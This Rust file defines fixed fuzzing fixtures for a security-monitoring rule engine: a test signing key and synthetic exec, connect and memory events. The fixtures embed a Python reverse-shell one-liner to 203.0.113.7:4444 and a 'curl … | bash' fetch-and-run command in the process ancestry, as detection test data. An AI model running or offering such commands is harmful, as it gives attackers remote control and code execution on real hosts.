//! Fixed inputs the targets share: the trusted signing key and the events rules are evaluated
//! against.

use std::sync::LazyLock;

use protocol::{
    signing::{KeyPair, PublicKey},
    Ancestor, BootId, ConnectEvent, ConnectHook, Event, EventDetail, ExecEvent, ExecId,
    MemorySampleEvent, Outcome, Process, SocketFamily, Timestamp, TransportProtocol,
};

/// The secret key of the operator and responder the targets trust (32 bytes of `O`, base64).
/// Seeds are signed with it, so mutations of them reach the steps after verification.
const SECRET: &str = "T09PT09PT09PT09PT09PT09PT09PT09PT09PT09PT08=";

pub fn signer() -> KeyPair {
    KeyPair::from_secret_base64(SECRET).expect("the fixed key is 32 bytes of base64")
}

/// The trusted key set: the fixed signer only.
pub static TRUSTED: LazyLock<Vec<PublicKey>> = LazyLock::new(|| {
    vec![PublicKey::from_base64(&signer().public_base64()).expect("a valid public key")]
});

/// When seeds are issued: a fixed time, so regenerated seeds are byte-for-byte the same.
pub const ISSUED_AT: Timestamp = Timestamp::from_unix_nanos(1_760_000_000_000_000_000);

pub fn exec_id(pid: u32) -> ExecId {
    ExecId {
        boot: BootId(0x4cd1_1df2),
        pid,
        start_ticks: 1000 + u64::from(pid),
        seq: 1,
    }
}

fn process() -> Process {
    Process {
        ppid: 4000,
        parent_exec_id: Some(exec_id(4000)),
        invoked_path: Some("/tmp/.x/python3".into()),
        cwd: Some("/tmp/.x".into()),
        uid: 33,
        euid: 0,
        gid: 33,
        user: Some("www-data".into()),
        cgroup_id: 1,
        start_time: ISSUED_AT,
        ..Process::new(
            exec_id(4242),
            "/usr/bin/python3.11",
            [
                "python3",
                "-c",
                "import socket,os;s=socket.socket();s.connect(('203.0.113.7',4444));os.dup2(s.fileno(),0)",
            ]
            .map(String::from)
            .to_vec(),
        )
    }
}

fn ancestry() -> Vec<Ancestor> {
    [
        (
            4000,
            "/usr/bin/bash",
            "sh -c curl -s http://203.0.113.7/x | bash",
        ),
        (3000, "/usr/sbin/nginx", "nginx: worker process"),
        (1, "/usr/lib/systemd/systemd", "/sbin/init"),
    ]
    .map(|(pid, exe, cmd)| Ancestor {
        exec_id: exec_id(pid),
        pid,
        name: exe.rsplit('/').next().unwrap_or(exe).to_string(),
        exe: exe.into(),
        argv: cmd.split(' ').map(String::from).collect(),
        tty: None,
    })
    .to_vec()
}

fn event(detail: EventDetail) -> Event {
    Event {
        time: ISSUED_AT,
        host: "web-1".into(),
        process: process(),
        ancestry: ancestry(),
        detail,
    }
}

/// One event of each kind rules apply to: an exec, a connect (to an IPv4-mapped IPv6
/// address) and a memory sample.
pub static EVENTS: LazyLock<[Event; 3]> = LazyLock::new(|| {
    [
        event(EventDetail::Exec(ExecEvent {
            previous_exe: Some("/usr/bin/bash".into()),
        })),
        event(EventDetail::Connect(ConnectEvent {
            family: SocketFamily::Ipv6,
            protocol: TransportProtocol::Tcp,
            destination_ip: "::ffff:203.0.113.7".parse().expect("an address"),
            destination_port: 4444,
            source_ip: None,
            source_port: None,
            outcome: Outcome::Ok,
            errno: None,
            hook: ConnectHook::Connect,
            late_outcome: false,
        })),
        event(EventDetail::MemorySample(MemorySampleEvent {
            rss_bytes: 600 << 20,
        })),
    ]
});
